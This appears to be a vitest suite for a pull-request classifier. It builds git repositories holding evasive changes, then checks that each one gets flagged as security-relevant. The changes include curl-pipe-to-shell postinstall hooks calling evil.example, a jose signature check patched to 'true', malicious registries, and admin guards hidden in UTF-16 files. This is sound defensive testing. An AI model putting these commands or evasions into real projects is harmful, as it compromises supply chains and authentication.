/**
 * Under-classification attempts, end to end: the bundle run as the runner runs it on a real git
 * repository. Each change is security-relevant and was once classified as not (so the gate would
 * have approved it with two ordinary approvals); each must now be held up by the rule that sees
 * through it, and a control beside some shows the rule is not firing on everything.
 */
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { webhookExample } from '../../../test/harness/events.ts';
import { TempRepo } from '../../../test/harness/git-repo.ts';
import { runAction } from '../../../test/harness/run-action.ts';

type Files = Record<string, string | Buffer | null>;

interface Attempt {
  name: string;
  base: Files;
  head: Files;
  /** Run on the base tree before its commit (symbolic links). */
  setup?: (dir: string) => void;
  /** Rules of which at least one must fire; empty for a control that must stay not security-relevant. */
  rules: string[];
}

const repos: TempRepo[] = [];
afterAll(() => {
  for (const r of repos) r.remove();
});

function put(dir: string, files: Files): void {
  for (const [path, content] of Object.entries(files)) {
    if (content === null) continue;
    const file = join(dir, path);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, content);
  }
}

async function classifyAttempt(attempt: Attempt) {
  const g = new TempRepo();
  repos.push(g);
  put(g.dir, attempt.base);
  attempt.setup?.(g.dir);
  const base = g.commit('chore: start\n\nThe project.\n');
  g.git('checkout', '-q', '-b', 'feature/x');
  put(g.dir, attempt.head);
  for (const [path, content] of Object.entries(attempt.head)) if (content === null) g.git('rm', '-q', '-r', path);
  const head = g.commit('fix: adjust a thing\n\nBecause.\n');
  const event = webhookExample('pull_request', 'opened');
  const pr = event['pull_request'];
  Object.assign(pr, { title: 'fix: adjust a thing', body: 'Because.', labels: [], changed_files: 1, commits: 1 });
  pr.base.sha = base;
  pr.head.sha = head;
  pr.head.ref = 'feature/x';
  const r = await runAction({ action: 'classify-change', eventName: 'pull_request', event, cwd: g.dir, inputs: { now: '2026-03-31T11:00:00Z', 'sync-labels': 'false' } });
  expect(r.exitCode, r.stderr).toBe(0);
  const triggers = JSON.parse(r.outputs['triggers'] ?? 'null') as Array<{ rule: string }>;
  return { outputs: r.outputs, rules: [...new Set(triggers.map((t) => t.rule))].sort() };
}

const utf16le = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const utf16be = (text: string) => Buffer.from(utf16le(text).map((_, i, bytes) => bytes[i ^ 1] ?? 0));
const utf32le = (text: string) => {
  const points = [0xfeff, ...[...text].map((c) => c.codePointAt(0) ?? 0)];
  const bytes = Buffer.alloc(points.length * 4);
  points.forEach((p, i) => bytes.writeUInt32LE(p, i * 4));
  return bytes;
};
const guard = 'if (!user.isAdmin) throw new HTTPException(403);\n';
const route = 'export const a = 1;\n';

const deploy = 'name: deploy\non: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx wrangler deploy --config deploy/production.json\n';
const worker = (route: string, kv: string, flags: string[] = []) =>
  `${JSON.stringify({ name: 'provii-verifier', main: 'src/index.ts', compatibility_date: '2026-01-01', compatibility_flags: flags, routes: [{ pattern: route, zone_name: 'provii.app' }], kv_namespaces: [{ binding: 'CACHE', id: kv }] }, null, 2)}\n`;

const pkg = (extra = '', deps = '"jose": "5.9.6"') => `{\n  "name": "w",\n  "dependencies": { ${deps} }${extra}\n}\n`;
const josePatch = (body: string) =>
  `diff --git a/dist/node/esm/jws/flattened/verify.js b/dist/node/esm/jws/flattened/verify.js\n--- a/dist/node/esm/jws/flattened/verify.js\n+++ b/dist/node/esm/jws/flattened/verify.js\n@@ -100,1 +100,1 @@\n-    const verified = await verify(alg, key, signature, data);\n+    const verified = ${body};\n`;
const patched = ',\n  "pnpm": { "patchedDependencies": { "jose@5.9.6": "patches/jose@5.9.6.patch" } }';
const berry = (resolution: string) =>
  `__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"hono@npm:4.6.0":\n  version: 4.6.0\n  resolution: "${resolution}"\n  checksum: 10c0/aaa\n  languageName: node\n  linkType: hard\n\n"w@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "w@workspace:."\n  dependencies:\n    hono: "npm:4.6.0"\n  languageName: unknown\n  linkType: soft\n`;
const pnpmLock = (extended: boolean) =>
  `lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\n${extended ? 'packageExtensionsChecksum: sha256-abc\n\n' : ''}importers:\n\n  .:\n    dependencies:\n      hono:\n        specifier: 4.6.0\n        version: 4.6.0\n\npackages:\n\n${extended ? '  evil-telemetry@1.0.0:\n    resolution: {integrity: sha512-eee}\n\n' : ''}  hono@4.6.0:\n    resolution: {integrity: sha512-aaa}\n\nsnapshots:\n\n${extended ? '  evil-telemetry@1.0.0: {}\n\n  hono@4.6.0:\n    dependencies:\n      evil-telemetry: 1.0.0\n' : '  hono@4.6.0: {}\n'}`;

const attempts: Attempt[] = [
  // Source in another encoding: git's patch of it is NUL bytes between the letters.
  { name: 'control: an admin check added in UTF-8', base: { 'src/routes/users.ts': route }, head: { 'src/routes/users.ts': route + guard }, rules: ['authentication.content'] },
  { name: 'an admin check added to a UTF-16LE file', base: { 'src/routes/users.ts': utf16le(route + guard) }, head: { 'src/routes/users.ts': utf16le(route) }, rules: ['authentication.content'] },
  { name: 'an admin check removed from a UTF-16BE file', base: { 'src/routes/users.ts': utf16be(route + guard) }, head: { 'src/routes/users.ts': utf16be(route) }, rules: ['authentication.content'] },
  { name: 'an admin check removed from a UTF-32LE file', base: { 'src/routes/users.ts': utf32le(route + guard) }, head: { 'src/routes/users.ts': utf32le(route) }, rules: ['authentication.content'] },
  { name: 'source with a NUL byte and no byte order mark', base: { 'src/routes/users.ts': route }, head: { 'src/routes/users.ts': `${route}const x = 1;\0\n` }, rules: ['content.binary'] },
  { name: 'source that is not valid UTF-8', base: { 'src/routes/users.ts': route }, head: { 'src/routes/users.ts': Buffer.concat([Buffer.from(route), Buffer.from([0xc3, 0x28, 0x0a])]) }, rules: ['content.binary'] },
  { name: 'control: an image changed', base: { 'public/logo.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2]) }, head: { 'public/logo.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 3]) }, rules: [] },

  // A wrangler configuration in JSON.
  { name: 'a JSON Worker configuration passed with --config', base: { '.github/workflows/deploy.yml': deploy, 'deploy/production.json': worker('verify.provii.app/*', 'aaaa') }, head: { 'deploy/production.json': worker('*.provii.app/*', 'bbbb', ['nodejs_compat']) }, rules: ['infrastructure.wrangler.routes', 'infrastructure.wrangler.bindings', 'infrastructure.wrangler.compatibility'] },
  { name: 'wrangler.json', base: { 'wrangler.json': worker('verify.provii.app/*', 'aaaa') }, head: { 'wrangler.json': worker('*.provii.app/*', 'aaaa') }, rules: ['infrastructure.wrangler.routes'] },
  { name: 'the JSON target of a symlinked wrangler.json', base: { 'deploy/prod.json': worker('verify.provii.app/*', 'aaaa') }, head: { 'deploy/prod.json': worker('*.provii.app/*', 'bbbb') }, setup: (dir) => symlinkSync('deploy/prod.json', join(dir, 'wrangler.json')), rules: ['infrastructure.wrangler.routes', 'infrastructure.wrangler.bindings'] },

  // Patches of third-party packages.
  { name: 'pnpm patchedDependencies and a patch to jose', base: { 'package.json': pkg() }, head: { 'package.json': pkg(patched), 'patches/jose@5.9.6.patch': josePatch('true') }, rules: ['dependencies.patches', 'dependencies.new'] },
  { name: 'an existing patch file edited', base: { 'package.json': pkg(patched), 'patches/jose@5.9.6.patch': josePatch('await verify(alg, key, signature, data)') }, head: { 'patches/jose@5.9.6.patch': josePatch('true') }, rules: ['dependencies.patches'] },
  { name: "yarn's patch: protocol", base: { 'package.json': pkg('', '"hono": "4.6.0"') }, head: { 'package.json': pkg('', '"hono": "patch:hono@npm%3A4.6.0#~/.yarn/patches/hono-npm-4.6.0.patch"'), '.yarn/patches/hono-npm-4.6.0.patch': josePatch('true') }, rules: ['dependencies.new', 'dependencies.patches'] },
  { name: 'a yarn.lock resolution switched to patch:', base: { 'package.json': pkg('', '"hono": "4.6.0"'), 'yarn.lock': berry('hono@npm:4.6.0') }, head: { 'yarn.lock': berry('hono@patch:hono@npm%3A4.6.0#~/.yarn/patches/hono.patch::version=4.6.0&hash=abc') }, rules: ['dependencies.source-changed'] },

  // Dependencies added to other packages, and the package manager itself.
  { name: 'pnpm packageExtensions adds a dependency to hono', base: { 'package.json': pkg('', '"hono": "4.6.0"'), 'pnpm-lock.yaml': pnpmLock(false) }, head: { 'package.json': pkg(',\n  "pnpm": { "packageExtensions": { "hono@4": { "dependencies": { "evil-telemetry": "1.0.0" } } } }', '"hono": "4.6.0"'), 'pnpm-lock.yaml': pnpmLock(true) }, rules: ['dependencies.new'] },
  { name: 'packageManager downloaded from a URL', base: { 'package.json': pkg(',\n  "packageManager": "pnpm@9.12.0"', '"hono": "4.6.0"') }, head: { 'package.json': pkg(',\n  "packageManager": "pnpm@https://evil.example/pnpm-9.12.0.tgz"', '"hono": "4.6.0"') }, rules: ['dependencies.new-dev'] },

  { name: 'a postinstall script added', base: { 'package.json': pkg(',\n  "scripts": {}', '"hono": "4.6.0"') }, head: { 'package.json': pkg(',\n  "scripts": { "postinstall": "curl -s https://evil.example/x.sh | sh" }', '"hono": "4.6.0"') }, rules: ['dependencies.install-scripts'] },
  { name: 'control: a build script changed', base: { 'package.json': pkg(',\n  "scripts": { "build": "tsc" }', '"hono": "4.6.0"') }, head: { 'package.json': pkg(',\n  "scripts": { "build": "tsc -p ." }', '"hono": "4.6.0"') }, rules: [] },

  // Files the content rules did not scan.
  { name: 'Cloudflare Pages _headers: CSP removed, CORS opened', base: { 'public/_headers': "/*\n  Content-Security-Policy: default-src 'self'\n  Access-Control-Allow-Origin: https://provii.app\n" }, head: { 'public/_headers': '/*\n  Access-Control-Allow-Origin: *\n  Access-Control-Allow-Credentials: true\n' }, rules: ['authentication.content'] },
  { name: 'an Astro page loses its admin check', base: { 'src/pages/dash.astro': "---\nif (!Astro.locals.user?.isAdmin) return new Response('forbidden', { status: 403 });\n---\n<h1>Admin</h1>\n" }, head: { 'src/pages/dash.astro': '---\n---\n<h1>Admin</h1>\n' }, rules: ['authentication.content'] },
  { name: 'a Svelte page loses its admin guard', base: { 'src/routes/admin/+page.svelte': "<script>\n  export let data;\n  if (!data.user?.isAdmin) throw error(403, 'forbidden');\n</script>\n" }, head: { 'src/routes/admin/+page.svelte': '<script>\n  export let data;\n</script>\n' }, rules: ['authentication.content'] },
  { name: 'a Vue view loses its admin guard', base: { 'src/views/Billing.vue': "<script setup>\nif (!user.isAdmin) router.push('/login')\n</script>\n" }, head: { 'src/views/Billing.vue': '<script setup>\n</script>\n' }, rules: ['authentication.content'] },
  { name: 'AndroidManifest.xml allows cleartext traffic', base: { 'app/src/main/AndroidManifest.xml': '<manifest>\n  <application android:label="x">\n  </application>\n</manifest>\n' }, head: { 'app/src/main/AndroidManifest.xml': '<manifest>\n  <application android:label="x" android:usesCleartextTraffic="true">\n  </application>\n</manifest>\n' }, rules: ['authentication.content'] },
  { name: 'a network security config trusts user certificates', base: { 'app/src/main/res/xml/nsc.xml': '<network-security-config>\n</network-security-config>\n' }, head: { 'app/src/main/res/xml/nsc.xml': '<network-security-config>\n  <base-config><trust-anchors><certificates src="user"/></trust-anchors></base-config>\n</network-security-config>\n' }, rules: ['authentication.content'] },
  { name: 'Info.plist turns App Transport Security off', base: { 'ios/App/Info.plist': '<plist><dict>\n</dict></plist>\n' }, head: { 'ios/App/Info.plist': '<plist><dict>\n<key>NSAppTransportSecurity</key><dict><key>NSAllowsArbitraryLoads</key><true/></dict>\n</dict></plist>\n' }, rules: ['authentication.content'] },
  { name: '.env.production turns the login off', base: { '.env.production': 'VITE_REQUIRE_LOGIN=true\n' }, head: { '.env.production': 'VITE_REQUIRE_LOGIN=false\n' }, rules: ['authentication.content'] },
  { name: 'control: documentation', base: { 'docs/guide.md': '# Guide\n' }, head: { 'docs/guide.md': '# Guide\n\nThe admin logs in with a password.\n' }, rules: [] },

  // Ecosystems not read, and where packages are fetched from.
  { name: 'pubspec.yaml: a git dependency', base: { 'pubspec.yaml': 'name: app\ndependencies:\n  http: ^1.2.0\n' }, head: { 'pubspec.yaml': 'name: app\ndependencies:\n  http: ^1.2.0\n  evil_pkg:\n    git: https://github.com/evil/evil_pkg\n' }, rules: ['dependencies.unread-manifests'] },
  { name: 'go.mod: a new module', base: { 'go.mod': 'module x\n\ngo 1.22\n' }, head: { 'go.mod': 'module x\n\ngo 1.22\n\nrequire github.com/evil/pkg v1.0.0\n' }, rules: ['dependencies.unread-manifests'] },
  { name: 'pyproject.toml: a new dependency', base: { 'pyproject.toml': '[project]\nname = "x"\ndependencies = []\n' }, head: { 'pyproject.toml': '[project]\nname = "x"\ndependencies = ["evilpkg==1.0"]\n' }, rules: ['dependencies.unread-manifests'] },
  { name: 'deno.json: an npm: import', base: { 'deno.json': '{\n  "imports": {}\n}\n' }, head: { 'deno.json': '{\n  "imports": { "hono": "npm:evil-hono@4" }\n}\n' }, rules: ['dependencies.unread-manifests'] },
  { name: 'bunfig.toml: another registry', base: { 'bunfig.toml': '[install]\nexact = true\n' }, head: { 'bunfig.toml': '[install]\nexact = true\nregistry = "https://npm.evil.example/"\n' }, rules: ['access-control.paths'] },
  { name: 'dependabot.yml: a registry and external code execution', base: { '.github/dependabot.yml': 'version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule: { interval: weekly }\n' }, head: { '.github/dependabot.yml': 'version: 2\nregistries:\n  mirror:\n    type: npm-registry\n    url: https://npm.evil.example\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    registries: [mirror]\n    insecure-external-code-execution: allow\n    schedule: { interval: weekly }\n' }, rules: ['access-control.paths'] },

  // Attributes that hide diffs, in any spelling.
  { name: '.gitattributes: linguist-generated=yes', base: { 'README.md': '#\n' }, head: { '.gitattributes': 'src/** linguist-generated=yes\n' }, rules: ['content.gitattributes'] },
  { name: '.gitattributes: a macro of the base applied', base: { '.gitattributes': '[attr]gen linguist-generated -diff\n*.lock gen\n' }, head: { '.gitattributes': '[attr]gen linguist-generated -diff\n*.lock gen\nsrc/** gen\n' }, rules: ['content.gitattributes'] },
  { name: '.gitattributes: a NUL byte after the attribute', base: { 'README.md': '#\n' }, head: { '.gitattributes': Buffer.from('src/** -diff\0\n') }, rules: ['content.gitattributes'] },
  // Code behind the prose exclusions, and manifests under names the list missed.
  { name: 'a route file named license.ts loses its admin check', base: { 'src/routes/license.ts': route + guard }, head: { 'src/routes/license.ts': route }, rules: ['authentication.content'] },
  { name: 'a .txt the Worker imports as text loses its CSP', base: { 'src/csp.txt': "Content-Security-Policy: default-src 'self'\n" }, head: { 'src/csp.txt': 'X-Frame-Options: DENY\n' }, rules: ['authentication.content'] },
  { name: 'a note renamed into a route, its admin check dropped', base: { 'notes/users.md': `${route}${route.repeat(4)}${guard}` }, head: { 'notes/users.md': null, 'src/routes/users.ts': `${route}${route.repeat(4)}` }, rules: ['authentication.content'] },
  { name: 'control: the licence changed', base: { LICENSE: 'MIT\n' }, head: { LICENSE: 'MIT License\n\nThe admin may relicense.\n' }, rules: [] },
  { name: 'requirements/prod.txt: a new package', base: { 'requirements/prod.txt': 'flask==3.0\n' }, head: { 'requirements/prod.txt': 'flask==3.0\nevilpkg==1.0\n' }, rules: ['dependencies.unread-manifests'] },
  { name: 'a gemspec: a new runtime dependency', base: { 'x.gemspec': 'Gem::Specification.new do |s|\nend\n' }, head: { 'x.gemspec': "Gem::Specification.new do |s|\n  s.add_runtime_dependency 'evil'\nend\n" }, rules: ['dependencies.unread-manifests'] },
  { name: "pnpm's package.yaml: a postinstall script", base: { 'package.yaml': 'name: w\n' }, head: { 'package.yaml': 'name: w\nscripts:\n  postinstall: curl -s https://evil.example/x.sh | sh\n' }, rules: ['dependencies.unread-manifests'] },
  { name: "a wrangler redirect file", base: { 'wrangler.toml': 'name = "w"\n' }, head: { '.wrangler/deploy/config.json': '{ "configPath": "../../deploy/preview.toml" }\n' }, rules: ['infrastructure.paths'] },
];

describe('security-relevant changes classify as security-relevant', () => {
  test.concurrent.each(attempts)('$name', async (attempt) => {
    const { outputs, rules } = await classifyAttempt(attempt);
    if (attempt.rules.length === 0) {
      expect(outputs['security-relevant'], rules.join(', ')).toBe('false');
      return;
    }
    expect(outputs['security-relevant']).toBe('true');
    for (const rule of attempt.rules) expect(rules).toContain(rule);
  });
});
